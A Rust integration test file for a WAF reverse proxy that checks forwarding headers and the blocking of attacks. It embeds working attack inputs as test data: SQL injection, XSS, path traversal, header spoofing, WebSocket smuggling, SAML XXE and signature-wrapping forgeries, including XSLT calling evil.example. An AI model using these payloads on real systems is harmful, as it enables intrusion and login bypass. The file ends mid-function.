//! `waf serve` as the real binary between a raw TCP client and a real origin on loopback: what
//! reaches the origin, what is blocked, and how the proxy refuses what it will not forward.

mod common;

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::time::{Duration, Instant};

use common::{Origin, Proxy, Response, Setup};

#[test]
fn clean_request_reaches_the_origin_with_forwarding_headers() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let r = proxy.get(
        "Login.Contoso.com",
        "/contoso.onmicrosoft.com/oauth2/v2.0/authorize?client_id=1&login_hint=O%27Brien",
        "Cookie: x-ms-cpim-sso=abc\r\n",
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(r.body, "origin");
    let seen = origin.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    let s = &seen[0];
    assert_eq!(s.method, "GET");
    assert_eq!(
        s.target,
        "/contoso.onmicrosoft.com/oauth2/v2.0/authorize?client_id=1&login_hint=O%27Brien"
    );
    assert_eq!(s.header("host"), Some("Login.Contoso.com"));
    assert_eq!(s.header("x-forwarded-for"), Some("127.0.0.1"));
    assert_eq!(s.header("x-forwarded-proto"), Some("http"));
    assert_eq!(s.header("x-forwarded-host"), Some("Login.Contoso.com"));
    assert_eq!(s.header("cookie"), Some("x-ms-cpim-sso=abc"));

    // A clean form POST arrives with its body, unchanged.
    let body = "request_type=RESPONSE&signInName=zoe%40contoso.com&password=1%27%20OR%201%3D1%20--";
    let r = proxy.post(
        "/contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted?tx=StateProperties=eyJUSUQiOiIx&p=B2C_1_signin",
        "application/x-www-form-urlencoded",
        body,
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 2);
    assert_eq!(seen[1].method, "POST");
    assert_eq!(String::from_utf8_lossy(&seen[1].body), body);
}

#[test]
fn spoofed_forwarded_for_from_an_untrusted_client_is_replaced() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let r = proxy.get(
        "login.contoso.com",
        "/",
        "X-Forwarded-For: 203.0.113.7\r\nX-Forwarded-For: 198.51.100.1\r\nForwarded: for=203.0.113.7\r\n",
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].header("x-forwarded-for"), Some("127.0.0.1"));
    assert_eq!(seen[0].header_count("x-forwarded-for"), 1);
    assert_eq!(seen[0].header("forwarded"), None);
    // Nor under another spelling: a server that maps header names to CGI-style variables
    // (`HTTP_X_FORWARDED_FOR`) reads `X_Forwarded_For` as the same header. Nor in the headers
    // CDNs name a client in. Other headers with an underscore pass.
    let r = proxy.get(
        "login.contoso.com",
        "/",
        "X_Forwarded_For: 6.6.6.6\r\nX-Forwarded_For: 7.7.7.7\r\nX_Real_IP: 8.8.8.8\r\n\
         X_Forwarded_Host: evil.example\r\nX_Request_Id: 1\r\nX_Custom: kept\r\n\
         True-Client-IP: 6.6.6.6\r\nX-Azure-ClientIP: 6.6.6.6\r\nX_Client_IP: 6.6.6.6\r\n\
         X-Original-URL: /admin\r\nX-Rewrite-URL: /admin?q=1\r\n",
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    let underscored: Vec<&str> = seen[1]
        .headers
        .iter()
        .filter(|(n, _)| n.contains('_'))
        .map(|(n, _)| n.as_str())
        .collect();
    assert_eq!(underscored, ["X_Custom"], "{:?}", seen[1].headers);
    assert_eq!(seen[1].header("true-client-ip"), None);
    assert_eq!(seen[1].header("x-azure-clientip"), None);
    // Nor a URL that would have IIS's URL Rewrite serve another path than the rules read.
    assert_eq!(seen[1].header("x-original-url"), None);
    assert_eq!(seen[1].header("x-rewrite-url"), None);
    assert_eq!(seen[1].header("x-forwarded-for"), Some("127.0.0.1"));
    assert_eq!(
        seen[1].header("x-forwarded-host"),
        Some("login.contoso.com")
    );
    // Nor is an untrusted client's word on its scheme taken.
    let r = proxy.get("login.contoso.com", "/", "X-Forwarded-Proto: https\r\n");
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(origin.seen()[2].header("x-forwarded-proto"), Some("http"));
}

#[test]
fn forwarded_for_from_a_trusted_proxy_is_kept_and_the_peer_appended() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            trusted: "[127.0.0.0/8]",
            ..Setup::default()
        },
    );
    let r = proxy.get(
        "login.contoso.com",
        "/",
        "X-Forwarded-For: 203.0.113.7\r\nTrue-Client-IP: 203.0.113.7\r\n",
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(
        seen[0].header("x-forwarded-for"),
        Some("203.0.113.7, 127.0.0.1")
    );
    // A trusted peer's word on the client, in the header a CDN names it in, passes.
    assert_eq!(seen[0].header("true-client-ip"), Some("203.0.113.7"));
    // A client that put its own address in front, through the trusted proxy: the chain is read
    // from the right, the spoofed part never reaches the origin, and the rules judge the real
    // client (`ip_match` on REMOTE_ADDR would see 203.0.113.7).
    let r = proxy.get(
        "login.contoso.com",
        "/",
        "X-Forwarded-For: 6.6.6.6, 203.0.113.7\r\nX-Forwarded-For: 127.0.0.9\r\n",
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(
        seen[1].header("x-forwarded-for"),
        Some("203.0.113.7, 127.0.0.9, 127.0.0.1")
    );
    assert_eq!(seen[1].header("x-forwarded-proto"), Some("http"));
    // A balancer that ended the client's TLS says so: the upstream learns the client's scheme.
    // A list, or anything but a scheme, is not taken.
    for (sent, forwarded) in [
        ("X-Forwarded-Proto: HTTPS\r\n", "https"),
        ("X-Forwarded-Proto: https, http\r\n", "http"),
        ("X-Forwarded-Proto: javascript\r\n", "http"),
    ] {
        let r = proxy.get("login.contoso.com", "/", sent);
        assert_eq!(r.status, 200, "{}", r.raw);
        let seen = origin.seen();
        let last = seen.last().unwrap();
        assert_eq!(last.header_count("x-forwarded-proto"), 1, "{sent}");
        assert_eq!(last.header("x-forwarded-proto"), Some(forwarded), "{sent}");
    }
}

#[test]
fn a_request_without_a_host_gets_no_forwarded_host_not_even_its_own() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_sites: format!(
                "  - hosts: [\"*\"]\n    upstream: {{address: \"127.0.0.1:{}\"}}\n",
                origin.port
            ),
            ..Setup::default()
        },
    );
    let r = proxy.send(b"GET /old HTTP/1.0\r\nX-Forwarded-Host: evil.example\r\n\r\n");
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].target, "/old");
    assert_eq!(seen[0].header_count("x-forwarded-host"), 0, "{seen:?}");
}

/// A client may send its request-target in absolute form (`GET http://host/path`), as to a
/// forward proxy; the upstream gets the origin form (`GET /path`), as RFC 9112 asks of a client
/// talking to an origin server. It used to get the absolute form, whose authority wins over
/// the Host header at the upstream: with `host_header: upstream` the two disagreed. The rules
/// still judge the request, and an HTTP/1.0 request that named its host in the target alone
/// gets a Host header.
#[test]
fn an_absolute_form_target_reaches_the_upstream_in_origin_form() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_sites: format!(
                "  - hosts: [b2c.contoso.com]\n    host_header: upstream\n    upstream: {{address: \"127.0.0.1:{}\"}}\n",
                origin.port
            ),
            ..Setup::default()
        },
    );
    let requests: [&[u8]; 4] = [
        b"GET http://login.contoso.com/contoso/oauth2/v2.0/authorize?client_id=1 HTTP/1.1\r\nHost: login.contoso.com\r\nConnection: close\r\n\r\n",
        b"GET http://login.contoso.com?x=1 HTTP/1.1\r\nHost: login.contoso.com\r\nConnection: close\r\n\r\n",
        b"GET http://login.contoso.com/old HTTP/1.0\r\n\r\n",
        b"GET http://b2c.contoso.com/b2c HTTP/1.1\r\nHost: b2c.contoso.com\r\nConnection: close\r\n\r\n",
    ];
    for raw in requests {
        let r = proxy.send(raw);
        assert_eq!(r.status, 200, "{}", r.raw);
    }
    let seen: Vec<(String, Option<String>)> = origin
        .seen()
        .iter()
        .map(|s| (s.target.clone(), s.header("host").map(str::to_string)))
        .collect();
    let expected = [
        (
            "/contoso/oauth2/v2.0/authorize?client_id=1",
            "login.contoso.com",
        ),
        ("/?x=1", "login.contoso.com"),
        ("/old", "login.contoso.com"),
        ("/b2c", "127.0.0.1"),
    ]
    .map(|(t, h)| (t.to_string(), Some(h.to_string())));
    assert_eq!(seen, expected);
    // An attack in an absolute-form target is still blocked, and never forwarded.
    let r = proxy.send(
        b"GET http://login.contoso.com/?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: login.contoso.com\r\nConnection: close\r\n\r\n",
    );
    assert_eq!(r.status, 403, "{}", r.raw);
    assert_eq!(origin.seen().len(), 4);
}

/// What an upstream that switches protocols saw: each request head, and the bytes that came
/// through each tunnel.
#[derive(Default)]
struct Switched {
    heads: Vec<String>,
    tunnelled: Vec<u8>,
}

/// A site whose upstream answers every request `101 Switching Protocols`, whether or not it
/// asked for an upgrade (a WebSocket endpoint, or one an attacker made answer 101), and then
/// echoes what comes through, as a tunnel would carry it.
fn switching_site(host: &str, extra: &str) -> (String, std::sync::Arc<std::sync::Mutex<Switched>>) {
    let upstream = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = upstream.local_addr().unwrap().port();
    let switched = std::sync::Arc::new(std::sync::Mutex::new(Switched::default()));
    let record = switched.clone();
    std::thread::spawn(move || {
        for conn in upstream.incoming() {
            let Ok(mut c) = conn else { return };
            let record = record.clone();
            std::thread::spawn(move || {
                let head = common::read_request_head(&mut c);
                record
                    .lock()
                    .unwrap()
                    .heads
                    .push(String::from_utf8_lossy(&head).into_owned());
                let _ = c.write_all(
                    b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
                );
                let mut buf = [0u8; 4096];
                while let Ok(n @ 1..) = c.read(&mut buf) {
                    record
                        .lock()
                        .unwrap()
                        .tunnelled
                        .extend_from_slice(&buf[..n]);
                    let _ = c.write_all(&buf[..n]);
                }
            });
        }
    });
    (
        format!("  - hosts: [{host}]\n    upstream: {{address: \"127.0.0.1:{port}\"}}\n{extra}"),
        switched,
    )
}

/// Sends a WebSocket handshake (with `upgrade` as its `Upgrade`; a plain request without) and,
/// when the answer is 101, a request through the tunnel; returns the answer and what came back
/// through the tunnel.
fn handshake_then_smuggle(proxy: &Proxy, host: &str, upgrade: Option<&str>) -> (Response, String) {
    let mut s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let handshake = upgrade
        .map(|u| {
            format!(
                "Upgrade: {u}\r\nConnection: Upgrade\r\n\
                 Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
            )
        })
        .unwrap_or_default();
    write!(s, "GET /chat HTTP/1.1\r\nHost: {host}\r\n{handshake}\r\n").unwrap();
    let answer = Response::read_head(&mut s);
    // A refusal's page, before anything that could come through a tunnel.
    let page = answer
        .header("content-length")
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    let _ = s.read_exact(&mut vec![0u8; page]);
    let mut echoed = Vec::new();
    let smuggled = b"GET /admin?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: a\r\n\r\n";
    if s.write_all(smuggled).is_ok() {
        let deadline = Instant::now() + Duration::from_secs(3);
        let mut buf = [0u8; 4096];
        while echoed.len() < smuggled.len() && Instant::now() < deadline {
            match s.read(&mut buf) {
                Ok(0) | Err(_) => break,
                Ok(n) => echoed.extend_from_slice(&buf[..n]),
            }
        }
    }
    (answer, String::from_utf8_lossy(&echoed).into_owned())
}

/// Once an upstream answers 101, the connection is a tunnel the rules never see into: what the
/// client sends next reaches the upstream as it is ("WebSocket smuggling", wherever the
/// upstream can be made to answer 101). A site forwards upgrades only with `websockets: true`;
/// without it, a handshake goes out as a plain request, and an upstream that switches anyway
/// gets no tunnel.
#[test]
fn websocket_upgrades_are_forwarded_only_to_sites_that_allow_them() {
    let rules = format!("    rules: [\"{}\"]\n", common::rules_dir().display());
    let (closed, closed_seen) = switching_site("closed.contoso.com", &rules);
    let (open, open_seen) = switching_site(
        "ws.contoso.com",
        &(rules.clone() + "    websockets: true\n"),
    );
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_top: "audit: {path: \"{dir}/audit.jsonl\", all_requests: true}\n".into(),
            extra_sites: closed + &open,
            ..Setup::default()
        },
    );

    // A site without `websockets`: the upstream sees no upgrade, its 101 is refused, and the
    // bytes sent after the handshake never reach it.
    let (r, echoed) = handshake_then_smuggle(&proxy, "closed.contoso.com", Some("websocket"));
    assert_eq!(r.status, 502, "{}", r.raw);
    assert_eq!(echoed, "");
    let seen = closed_seen.lock().unwrap();
    assert_eq!(seen.heads.len(), 1, "{:?}", seen.heads);
    let head = seen.heads[0].to_ascii_lowercase();
    assert!(head.starts_with("get /chat http/1.1\r\n"), "{head}");
    assert!(!head.contains("\r\nupgrade:"), "{head}");
    assert!(!head.contains("\r\nconnection:"), "{head}");
    assert!(seen.tunnelled.is_empty(), "{:?}", seen.tunnelled);
    drop(seen);

    // A site with `websockets: true`: the handshake is forwarded, and after the 101 the
    // connection is a tunnel, as the site asked.
    let (r, echoed) = handshake_then_smuggle(&proxy, "ws.contoso.com", Some("websocket"));
    assert_eq!(r.status, 101, "{}", r.raw);
    assert!(echoed.starts_with("GET /admin"), "{echoed:?}");
    let seen = open_seen.lock().unwrap();
    let head = seen.heads[0].to_ascii_lowercase();
    assert!(head.contains("\r\nupgrade: websocket\r\n"), "{head}");
    assert!(head.contains("\r\nconnection: upgrade\r\n"), "{head}");
    drop(seen);

    // Even there, only a WebSocket handshake: an `h2c` upgrade goes out as a plain request.
    let (r, echoed) = handshake_then_smuggle(&proxy, "ws.contoso.com", Some("h2c"));
    assert_eq!(r.status, 502, "{}", r.raw);
    assert_eq!(echoed, "");
    assert!(!open_seen.lock().unwrap().heads[1]
        .to_ascii_lowercase()
        .contains("\r\nupgrade:"));

    // Nor does a request that asked for no upgrade get one: the 101 is refused there too
    // (Pingora passed it to the client, then closed the connection).
    let (r, echoed) = handshake_then_smuggle(&proxy, "ws.contoso.com", None);
    assert_eq!(r.status, 502, "{}", r.raw);
    assert_eq!(echoed, "");

    // The handshake itself is inspected like any request.
    let mut s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.write_all(
        b"GET /chat?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: ws.contoso.com\r\n\
          Upgrade: websocket\r\nConnection: Upgrade\r\n\
          Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
    )
    .unwrap();
    let r = Response::read_head(&mut s);
    assert_eq!(r.status, 403, "{}", r.raw);
    assert_eq!(open_seen.lock().unwrap().heads.len(), 3);

    // The audit log says what became of each upgrade. A line is written once its request is
    // done (a tunnel's when it closes), so they are compared in no particular order.
    proxy.wait_until(Duration::from_secs(5), || proxy.audit().len() >= 5);
    let audit = proxy.audit();
    let mut upgrades: Vec<(&str, &str, u64)> = audit
        .iter()
        .map(|a| {
            (
                a["site"].as_str().unwrap_or(""),
                a["upgrade"].as_str().unwrap_or(""),
                a["status"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    upgrades.sort_unstable();
    assert_eq!(
        upgrades,
        [
            ("closed.contoso.com", "refused", 502),
            ("ws.contoso.com", "", 502),
            ("ws.contoso.com", "forwarded", 101),
            ("ws.contoso.com", "forwarded", 403),
            ("ws.contoso.com", "refused", 502),
        ],
        "{audit:?}"
    );
}

#[test]
fn attacks_are_blocked_and_never_reach_the_origin() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let attacks = [
        // the query
        proxy.get(
            "login.contoso.com",
            "/contoso.onmicrosoft.com/oauth2/v2.0/authorize?state=1%27%20OR%20%271%27%3D%271",
            "",
        ),
        // a traversal with full-width slashes (U+FF0F as UTF-8), which Windows' best-fit
        // mapping turns into `/` (this passed)
        proxy.get(
            "login.contoso.com",
            "/download?file=..%EF%BC%8F..%EF%BC%8Fetc%EF%BC%8Fpasswd",
            "",
        ),
        // a parent directory with a path parameter, which Tomcat and Jetty resolve after the
        // proxy (`/public/..;/admin` is `/admin` to them; this passed)
        proxy.get("login.contoso.com", "/public/..;/admin/", ""),
        // a header
        proxy.get(
            "login.contoso.com",
            "/",
            "Referer: <script>alert(document.cookie)</script>\r\n",
        ),
        // a cookie
        proxy.get(
            "login.contoso.com",
            "/",
            "Cookie: session=1' UNION SELECT password FROM users--\r\n",
        ),
        // a urlencoded body
        proxy.post(
            "/contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted",
            "application/x-www-form-urlencoded",
            "request_type=RESPONSE&signInName=admin%27--&password=x",
        ),
        // a JSON body
        proxy.post(
            "/contoso.onmicrosoft.com/signup/v1.0/start",
            "application/json",
            r#"{"username": "1' OR '1'='1", "password": "x"}"#,
        ),
        // a chunked urlencoded body
        proxy.send(
            b"POST /login HTTP/1.1\r\nHost: login.contoso.com\r\nContent-Type: application/x-www-form-urlencoded\r\n\
              Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n\
              9\r\nsignInNam\r\nC\r\ne=admin%27--\r\n0\r\n\r\n",
        ),
    ];
    for r in &attacks {
        r.assert_block_page();
        assert!(r.body.contains("<html"), "{}", r.raw);
    }
    let ids: std::collections::HashSet<_> = attacks
        .iter()
        .filter_map(|r| r.header("x-request-id"))
        .collect();
    assert_eq!(ids.len(), attacks.len(), "request ids are distinct");
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
    assert_eq!(
        origin.connections(),
        0,
        "not even a connection reached the origin"
    );
    let log = proxy.log();
    assert!(log.contains("blocked"), "{log}");
    for r in &attacks {
        let id = r.header("x-request-id").unwrap_or_default();
        assert!(log.contains(id), "request id {id} is logged: {log}");
    }

    // JSON when the client asks for it.
    let r = proxy.get(
        "login.contoso.com",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "Accept: application/json\r\n",
    );
    r.assert_block_page();
    assert!(r
        .header("content-type")
        .unwrap_or("")
        .starts_with("application/json"));
    let v: serde_json::Value = serde_json::from_str(&r.body).unwrap();
    assert_eq!(v["request_id"], r.header("x-request-id").unwrap());
    assert_eq!(origin.connections(), 0);
}

/// An application that normalizes its input to NFKC (Python's `unicodedata`, Django's user
/// names, Java's `Normalizer`) reads the full-width `＇` (U+FF07) as `'`: an injection written
/// with it passed (200), because the rules saw bytes they did not know. Text in full-width
/// and other non-ASCII characters still reaches the origin byte for byte.
#[test]
fn an_injection_in_full_width_characters_is_blocked_and_full_width_text_passes() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let authorize = "/contoso.onmicrosoft.com/oauth2/v2.0/authorize";
    // `1＇ OR ＇1＇=＇1`, and `admin＇--` in a form.
    let r = proxy.get(
        "login.contoso.com",
        &format!("{authorize}?login_hint=1%EF%BC%87%20OR%20%EF%BC%871%EF%BC%87%3D%EF%BC%871"),
        "",
    );
    r.assert_block_page();
    let self_asserted = "/contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted";
    let r = proxy.post(
        self_asserted,
        "application/x-www-form-urlencoded",
        "request_type=RESPONSE&signInName=admin%EF%BC%87--&password=x",
    );
    r.assert_block_page();
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
    // `ｚｏｅ＠ｃｏｎｔｏｓｏ．ｃｏｍ` and `ＡＢＣ株式会社 Zoë Müller…` (an ellipsis, three dots after NFKC).
    let clean = format!(
        "{authorize}?login_hint=%EF%BD%9A%EF%BD%8F%EF%BD%85%EF%BC%A0%EF%BD%83%EF%BD%8F%EF%BD%8E\
         %EF%BD%94%EF%BD%8F%EF%BD%93%EF%BD%8F%EF%BC%8E%EF%BD%83%EF%BD%8F%EF%BD%8D\
         &state=%EF%BC%A1%EF%BC%A2%EF%BC%A3%E6%A0%AA%E5%BC%8F%E4%BC%9A%E7%A4%BE%20Zo%C3%AB%20M%C3%BCller%E2%80%A6"
    );
    let r = proxy.get("login.contoso.com", &clean, "");
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].target, clean);
}

/// SAML messages carry their XML encoded: base64 when posted, DEFLATE then base64 in a URL
/// (the HTTP-Redirect binding). A DOCTYPE in a redirected `SAMLRequest` passed (200): the
/// rule decoded the base64 and found compressed bytes.
#[test]
fn a_saml_message_with_a_doctype_is_blocked_posted_or_redirected() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let login = "/contoso.onmicrosoft.com/B2C_1A_SAML/samlp/sso/login";
    // `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x.dtd">]>
    // <samlp:AuthnRequest>&x;</samlp:AuthnRequest>`, compressed, then base64.
    let redirected_xxe = "s7GvyM1RKEstKs7Mz7NVMtQzULK3s1F08XcOiQxwVShSiLZRdPUL8QyJVKhQCI4MDnH1VVDKKCkpsNLXTy3LzNFLrUjMLchJ1a%2FQSylJUbKLtbMpTszNKbByLC3JyAtKLSxNLS6xU6uwttHHIg4A";
    // The same, base64 only.
    let posted_xxe = "PD94bWwgdmVyc2lvbj0iMS4wIj8%2BPCFET0NUWVBFIHIgWzwhRU5USVRZIHggU1lTVEVNICJodHRwOi8vZXZpbC5leGFtcGxlL3guZHRkIj5dPjxzYW1scDpBdXRoblJlcXVlc3Q%2BJng7PC9zYW1scDpBdXRoblJlcXVlc3Q%2B";
    // A clean AuthnRequest from `https://app.contoso.com`, compressed, then base64.
    let redirected_clean = "fc9BCsIwEAXQq4Q5QKsVRIY0UOimoBsFtxJCpIUmEzMT8PhW3dSNq%2BHzPw9Gsw1zwq7IGM%2F%2BUTyLeoY5Mn6KFkqOSJYnxmiDZxSHl%2B50xKbaYMok5GgGNfQt3A73nWvsfgvq6jNPFFtYVmD0m8KBufi8wv%2FbltlnWRAwo0hirGubUuUoCjEtN%2Bh65Zpv%2Bv3EvAA%3D";
    let r = proxy.get(
        "login.contoso.com",
        &format!("{login}?SAMLRequest={redirected_xxe}&RelayState=x"),
        "",
    );
    r.assert_block_page();
    let r = proxy.post(
        login,
        "application/x-www-form-urlencoded",
        &format!("SAMLRequest={posted_xxe}"),
    );
    r.assert_block_page();
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
    let target = format!("{login}?SAMLRequest={redirected_clean}&RelayState=x");
    let r = proxy.get("login.contoso.com", &target, "");
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(origin.seen().len(), 1);
    assert_eq!(origin.seen()[0].target, target);
}

/// A SAML response from a federated identity provider, as its assertion consumer receives it,
/// with one signed assertion for `name_id`. `before` goes in front of the assertion, and
/// `transforms` are the signature's.
fn saml_response(before: &str, name_id: &str, transforms: &str) -> String {
    format!(
        r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r1" Version="2.0" IssueInstant="2024-05-20T09:41:07.118Z" Destination="https://login.contoso.com/contoso.onmicrosoft.com/B2C_1A_SAML/samlp/sso/assertionconsumer"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://sts.fabrikam.com/adfs/services/trust</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>{before}<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a1" Version="2.0"><saml:Issuer>https://sts.fabrikam.com/adfs/services/trust</saml:Issuer><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><ds:Reference URI="#_a1"><ds:Transforms>{transforms}</ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>bm90IGEgZGlnZXN0</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue>bm90IGEgc2lnbmF0dXJl</ds:SignatureValue></ds:Signature><saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">{name_id}</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>"##
    )
}

/// The id of the first rule of each audit line, in order: which rule blocked each request.
fn blocking_rules(proxy: &Proxy) -> Vec<String> {
    proxy
        .audit()
        .iter()
        .map(|line| line["rules"][0]["id"].to_string())
        .collect()
}

/// Posts each forged form of `forged` (the rule expected to block it, the form) to `target`:
/// each gets the block page, the audit names each one's rule in turn, and none reaches the
/// origin. Then `original`, the form they were made from, reaches the origin byte for byte.
fn forged_forms_are_blocked_and_the_original_passes(
    proxy: &Proxy,
    origin: &Origin,
    target: &str,
    forged: &[(&str, String)],
    original: &str,
) {
    for (_, body) in forged {
        let r = proxy.post(target, "application/x-www-form-urlencoded", body);
        r.assert_block_page();
    }
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
    let expected: Vec<&str> = forged.iter().map(|(rule, _)| *rule).collect();
    assert_eq!(blocking_rules(proxy), expected);
    let r = proxy.post(target, "application/x-www-form-urlencoded", original);
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(origin.seen().len(), 1);
    assert_eq!(origin.seen()[0].body, original.as_bytes());
}

/// The ways to forge a SAML response that keeps a valid signature passed (200): a comment
/// inside the name (canonicalization drops it, a service provider reading the first text node
/// reads `admin@contoso.com`), a forged assertion beside the signed one (signature wrapping),
/// and an XSLT or XPath signature transform, which the verifier runs before it knows whether
/// the signature holds.
#[test]
fn a_forged_saml_response_that_keeps_its_signature_is_blocked() {
    use base64::Engine as _;
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_top: "audit: {path: \"{dir}/audit.jsonl\"}\n".into(),
            ..Setup::default()
        },
    );
    let acs = "/contoso.onmicrosoft.com/B2C_1A_SAML/samlp/sso/assertionconsumer";
    let form = |xml: &str| {
        let encoded = base64::engine::general_purpose::STANDARD.encode(xml);
        format!(
            "SAMLResponse={}&RelayState=aHR0cHM6Ly9hcHAuY29udG9zby5jb20v",
            encoded
                .replace('+', "%2B")
                .replace('/', "%2F")
                .replace('=', "%3D")
        )
    };
    let usual = r##"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"##;
    let user = "zoe.martin@fabrikam.com";
    let forged_assertion = r##"<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_evil" Version="2.0"><saml:Subject><saml:NameID>admin@contoso.com</saml:NameID></saml:Subject></saml:Assertion>"##;
    let xslt = r##"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document('http://evil.example/x')"/></xsl:template></xsl:stylesheet></ds:Transform>"##;
    let xpath = r##"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>count(//. | //@* | //namespace::*)</ds:XPath></ds:Transform>"##;
    let signed_response = saml_response("", user, usual);
    let wrapped_response = format!(
        r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_evil">{forged_assertion}<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:Object>{signed_response}</ds:Object></ds:Signature></samlp:Response>"##
    );
    let forged = [
        (
            "146120",
            form(&saml_response(
                "",
                "admin@contoso.com<!---->.evil.example",
                usual,
            )),
        ),
        (
            "146130",
            form(&saml_response(forged_assertion, user, usual)),
        ),
        ("146130", form(&wrapped_response)),
        ("146140", form(&saml_response("", user, xslt))),
        ("146140", form(&saml_response("", user, xpath))),
    ];
    forged_forms_are_blocked_and_the_original_passes(
        &proxy,
        &origin,
        acs,
        &forged,
        &form(&signed_response),
    );
}

/// A WS-Federation token response, as an identity provider federated over WS-Fed posts it: a
/// WS-Trust envelope around one signed SAML 1.1 assertion for `name`, as XML text. `before`
/// goes in front of the assertion, and `transforms` are the signature's.
fn ws_fed_response(before: &str, name: &str, transforms: &str) -> String {
    format!(
